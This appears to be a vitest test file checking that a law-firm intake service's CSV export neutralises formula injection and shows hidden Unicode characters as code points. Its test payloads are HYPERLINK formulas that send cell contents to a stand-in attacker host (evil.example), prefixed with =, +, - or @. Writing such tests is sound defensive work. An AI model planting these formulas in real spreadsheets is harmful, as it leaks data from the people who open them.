import { validConsultation, validContact } from "@firm/testkit/fixtures";
import type { FastifyInstance } from "fastify";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildTestApp, resetIntake } from "../../tests/harness/app.ts";
import { postIntake } from "../../tests/harness/intake.ts";
import { issueToken } from "./tokens.ts";

/** Reads a whole RFC 4180 CSV (quoted cells may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted && char === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (char === '"') quoted = !quoted;
    else if (char === "," && !quoted) {
      row.push(cell);
      cell = "";
    } else if (char === "\r" && text[i + 1] === "\n" && !quoted) {
      rows.push([...row, cell]);
      row = [];
      cell = "";
      i++;
    } else cell += char;
  }
  return rows;
}

const prefixes = ["=", "+", "-", "@"];
/** Free-text fields of each form: every one gets a formula; multi-line ones may start with tab or CR too. */
const lineFields = {
  contact: ["name"],
  consultation: ["firstName", "lastName", "incidentLocation", "insuranceCompany", "availableDates"],
};
const textFields = {
  contact: ["message"],
  consultation: ["caseDescription", "witnesses", "additionalInfo"],
};

describe("CSV export of formula-looking input", () => {
  let app: FastifyInstance;
  let token: string;
  beforeAll(async () => {
    await resetIntake();
    app = await buildTestApp({ INTAKE_RATE_LIMIT_MAX: "100000" });
    ({ token } = await issueToken(app.prisma, "csv formulas test"));
  });
  afterAll(() => app.close());

  const exported = async () => {
    const response = await app.inject({
      url: "/api/ops/export",
      headers: { authorization: `Bearer ${token}` },
    });
    const [header = [], ...rows] = parseCsv(response.body.replace(/^\uFEFF/, ""));
    return rows.map((cells) => Object.fromEntries(header.map((name, index) => [name, cells[index] ?? ""])));
  };

  it("neutralises every field a visitor typed, and keeps its text behind the apostrophe", async () => {
    const sent: Record<string, string>[] = [];
    for (const [index, prefix] of prefixes.entries()) {
      const formula = `${prefix}HYPERLINK("http://evil.example/?"&A1,"x")`;
      const contact = {
        ...validContact,
        name: formula,
        message: `\t${formula}`,
        email: `${prefix === "@" ? "" : prefix}${index}@example.com`,
        phone: "+1 714 555 0100",
      };
      const consultation = {
        ...validConsultation,
        ...Object.fromEntries(lineFields.consultation.map((field) => [field, formula])),
        ...Object.fromEntries(textFields.consultation.map((field) => [field, `\r${formula}`])),
      };
      for (const [url, body] of [
        ["/api/contact", contact],
        ["/api/consultation", consultation],
      ] as const) {
        expect((await postIntake(app, url, "json", body)).statusCode).toBe(201);
        sent.push(body);
      }
    }
    const rows = await exported();
    expect(rows).toHaveLength(sent.length);
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) {
        expect(cell, column).not.toMatch(/^[=+\-@\t\r]/);
      }
      const form = row.type === "contact" ? "contact" : "consultation";
      for (const field of [...lineFields[form], ...textFields[form]]) {
        expect(row[field]?.startsWith("'"), field).toBe(true);
        expect(sent.map((body) => `'${body[field as keyof typeof body]}`)).toContain(row[field]);
      }
    }
  });

  it("shows bidirectional overrides and zero-width characters as code points, joined emoji intact", async () => {
    await resetIntake();
    const name = "\u202E=1+1\u202C Ana\u200B 👩‍⚖️";
    expect((await postIntake(app, "/api/contact", "json", { ...validContact, name })).statusCode).toBe(201);
    const [row] = await exported();
    expect(row?.name).toBe("<U+202E>=1+1<U+202C> Ana<U+200B> 👩‍⚖️");
  });
});
